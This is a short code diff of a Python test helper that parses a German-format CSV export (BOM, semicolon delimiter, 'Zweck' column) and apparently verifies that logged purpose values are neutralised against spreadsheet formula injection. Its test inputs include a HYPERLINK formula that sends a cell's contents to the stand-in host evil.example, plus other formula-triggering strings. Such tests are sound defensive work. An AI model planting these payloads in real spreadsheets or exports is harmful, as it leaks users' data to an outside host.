@@ -18,12 +18,13 @@ PURPOSES = ['=HYPERLINK("http://evil.example/?"&A1,"Klick")', "+1+2", "-2+3", "@
 
 
 def _rows(text: str) -> list[list[str]]:
-    return list(csv.reader(io.StringIO(text)))
+    assert text.startswith("\ufeff")  # German Excel reads UTF-8 only with the mark
+    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
 
 
 def _purposes(text: str) -> list[str]:
     rows = _rows(text)
-    column = rows[0].index("purpose")
+    column = rows[0].index("Zweck")
     # The purposes logged above, quoted or not (the report logs itself with none).
     return [row[column] for row in rows[1:] if row[column].removeprefix("'") in PURPOSES]
 
